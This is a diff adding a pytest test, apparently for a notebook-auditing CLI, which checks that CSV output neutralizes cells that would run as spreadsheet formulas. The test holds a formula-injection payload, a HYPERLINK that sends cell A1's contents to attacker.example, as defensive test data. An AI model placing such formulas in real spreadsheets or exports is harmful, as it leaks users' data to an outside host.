@@ -235,6 +235,22 @@ def test_an_answer_changed_after_it_was_signed_is_marked_in_text_json_and_csv(
     assert f"key {answer['key']}, whose signature FAILS)" in out
 
 
+def test_audit_csv_cells_a_spreadsheet_would_read_as_formulas_open_as_text_and_json_keeps_them(
+    tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    """A reply is anyone's text: one that starts like a formula opens in a spreadsheet as the text it is."""
+    notebook = tmp_path / "cli.ipynb"
+    _cli_notebook(notebook, tmp_path_factory.mktemp("terminal"))
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"approve")'
+    _tamper(notebook, "value", formula)
+    _, _, out, _ = mkl_cli(tmp_path, "audit", "cli.ipynb", "--csv")
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    assert row["value"] == "'" + formula
+    assert not [cell for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], row
+    _, _, out, _ = mkl_cli(tmp_path, "audit", "cli.ipynb", "--json")
+    assert json.loads(out)[0]["value"] == formula  # JSON is read by programs: unchanged
+
+
 def test_an_answer_about_other_content_than_the_run_asked_about_is_marked_though_signed(
     tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
 ) -> None:
